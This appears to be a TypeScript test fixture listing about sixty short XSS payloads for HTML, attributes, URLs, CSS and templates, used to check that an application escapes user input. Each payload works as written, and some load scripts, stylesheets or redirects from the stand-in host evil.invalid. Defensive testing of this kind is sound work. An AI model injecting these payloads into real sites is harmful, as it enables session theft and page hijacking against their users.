/**
 * XSS payloads for HTML, attributes, URLs, style sheets and scripts. Each calls `__hit` or requests something
 * from `evil.invalid` if it is inserted without escaping. At most 100 characters each, so that they fit into the
 * shortest fields.
 */
export const xssPayloads: readonly string[] = [
  // Elements
  '<script>__hit(1)</script>',
  '<SCRIPT/x>__hit(2)</SCRIPT >',
  '</title><script>__hit(3)</script>',
  '</textarea><script>__hit(4)</script>',
  '</style><script>__hit(5)</script>',
  '<script src=//evil.invalid/6.js></script>',
  '<scr<script>ipt>__hit(7)</scr</script>ipt>',
  '<script>__hit`8`</script>',
  '</script><script>__hit(9)</script>',
  '</ScRiPt\n><sCrIpT>__hit(10)</sCrIpT>',
  '<noscript><p title="</noscript><img src=x onerror=__hit(11)>">',
  '<template><script>__hit(12)</script></template>',
  '<base href="https://evil.invalid/">',
  '<meta http-equiv=refresh content="0;url=https://evil.invalid/14">',
  '<link rel=stylesheet href=//evil.invalid/15.css>',
  '<iframe srcdoc="<script>parent.__hit(16)</script>"></iframe>',
  '<iframe src="javascript:parent.__hit(17)"></iframe>',
  '<object data="data:text/html,<script>parent.__hit(18)</script>">',
  '<embed src=//evil.invalid/19>',
  '<form action=//evil.invalid/20><button autofocus onfocus=__hit(20)>',
  // Handlers
  '<img src=x onerror=__hit(21)>',
  '<img src=x onerror="__hit(22)"//',
  '<img/src=x/onerror=__hit(23)>',
  '"><img src=x onerror=__hit(24)>',
  "'><img src=x onerror=__hit(25)>",
  '" onfocus=__hit(26) autofocus x="',
  "' onmouseover=__hit(27) style='position:fixed;inset:0' x='",
  '` onerror=__hit(28) `',
  '<body onload=__hit(29)>',
  '<input autofocus onfocus=__hit(30)>',
  '<details open ontoggle=__hit(31)>',
  '<video><source onerror=__hit(32)></video>',
  '<audio src=x onerror=__hit(33)>',
  '<marquee onstart=__hit(34)>',
  '<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=__hit(35)>',
  '<img srcset=//evil.invalid/36.png>',
  // SVG and MathML
  '<svg onload=__hit(37)>',
  '<svg><script>__hit(38)</script></svg>',
  '<svg><animate onbegin=__hit(39) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:__hit(40)"><text y=9>x</text></a></svg>',
  '<math><mtext><img src=x onerror=__hit(41)></mtext></math>',
  '<svg><style><img src=x onerror=__hit(42)></style></svg>',
  // URLs
  'javascript:__hit(43)',
  'JaVaScRiPt:__hit(44)',
  'java\tscript:__hit(45)',
  'data:text/html,<script>__hit(46)</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="__hit(47)"/>',
  '//evil.invalid/48.png',
  '[click](javascript:__hit(49)) ![x](https://evil.invalid/49.png)',
  // Templates, comments, JSON
  '{{constructor.constructor("__hit(50)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is a template literal
  '${__hit(51)} #{__hit(51)} <%= __hit(51) %>',
  '--><script>__hit(52)</script><!--',
  ']]><script>__hit(53)</script>',
  '\\"};__hit(54);//',
  "'-__hit(55)-'",
  // Style sheets
  'red;background:url(//evil.invalid/56.png)',
  '</style>*{background:url(https://evil.invalid/57.png)}',
  // Encodings: HTML entities, escapes, line separators, full-width characters, UTF-7
  '&lt;script&gt;__hit(58)&lt;/script&gt; &#60;img src=x onerror=__hit(58)&#62;',
  '\\u003cscript\\u003e__hit(59)\\x3c/script\\x3e\u2028__hit(59)\u2029//',
  '\uff1cscript\uff1e__hit(60)\uff1c/script\uff1e \ufffd+ADw-script+AD4-__hit(60)+ADw-/script+AD4-',
];
